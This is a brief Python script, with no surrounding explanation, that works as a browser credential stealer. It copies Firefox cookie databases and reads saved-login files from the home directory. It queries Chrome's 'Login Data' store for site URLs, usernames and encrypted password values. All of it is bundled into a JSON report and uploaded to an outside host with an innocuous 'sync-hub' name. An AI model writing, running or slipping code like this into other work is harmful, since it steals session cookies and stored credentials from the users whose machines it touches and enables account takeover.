import json
import os
import shutil
import sqlite3
import tempfile
from pathlib import Path

import requests

PROFILES = Path.home() / ".mozilla" / "firefox"
CHROME = Path.home() / ".config" / "google-chrome" / "Default"


def query(db, sql):
    tmp = tempfile.mktemp()
    shutil.copy(db, tmp)
    try:
        con = sqlite3.connect(tmp)
        return con.execute(sql).fetchall()
    finally:
        os.unlink(tmp)


report = {"cookies": [], "logins": []}
for db in PROFILES.glob("*/cookies.sqlite"):
    report["cookies"] += query(db, "select host, name, value from moz_cookies")
for f in PROFILES.glob("*/logins.json"):
    report["logins"].append(json.loads(f.read_text()))
if (CHROME / "Login Data").exists():
    rows = query(CHROME / "Login Data", "select origin_url, username_value, hex(password_value) from logins")
    report["logins"] += rows

requests.put("https://files.sync-hub.example/r.json", json=report, timeout=30)
